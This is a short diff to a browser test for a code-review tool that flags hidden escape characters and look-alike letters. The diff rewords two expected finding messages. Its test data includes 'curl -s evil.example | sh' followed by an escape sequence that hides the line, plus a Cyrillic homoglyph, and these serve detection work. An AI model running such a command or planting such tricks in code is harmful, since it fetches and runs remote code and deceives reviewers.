@@ -118,6 +118,6 @@ test('what a change would hide from its reviewer is shown, in the window and in 
   await expect(changes).toContainText('curl -s evil.example | sh ⟨U+001B⟩[1A');
   await expect(changes).toContainText('sh⟨U+043E⟩p');
   const findings = page.getByRole('list', { name: /^Findings of the change/ });
-  await expect(findings).toContainText('It holds U+001B, which is not shown.');
-  await expect(findings).toContainText('It holds U+043E, which looks like another character.');
+  await expect(findings).toContainText('It contains U+001B, which is invisible.');
+  await expect(findings).toContainText('It contains U+043E, which looks like another character.');
 });
